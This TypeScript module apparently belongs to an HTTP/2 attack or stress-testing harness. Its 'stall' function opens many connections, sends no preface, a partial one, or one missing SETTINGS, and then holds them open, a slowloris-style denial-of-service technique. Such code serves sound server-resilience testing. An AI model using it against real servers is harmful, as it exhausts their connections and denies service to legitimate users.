import { clientPreface } from "../wire/frames.js";
import type { Attack } from "./attacker.js";
import { openMany } from "./memory-attacks.js";

/** Nothing, a part of the preface, and the preface without the SETTINGS that belong behind it. */
const beginnings = [Buffer.alloc(0), clientPreface.subarray(0, 10), clientPreface];

/** Connections on which HTTP/2 never begins. */
export function stall(connections: number): Attack {
  return async (attacker) => {
    await openMany(attacker, connections, (connection, index) => {
      connection.isPolite = false;
      connection.write(beginnings[index % beginnings.length] as Buffer);
      attacker.units++;
    });
    await attacker.hold();
  };
}
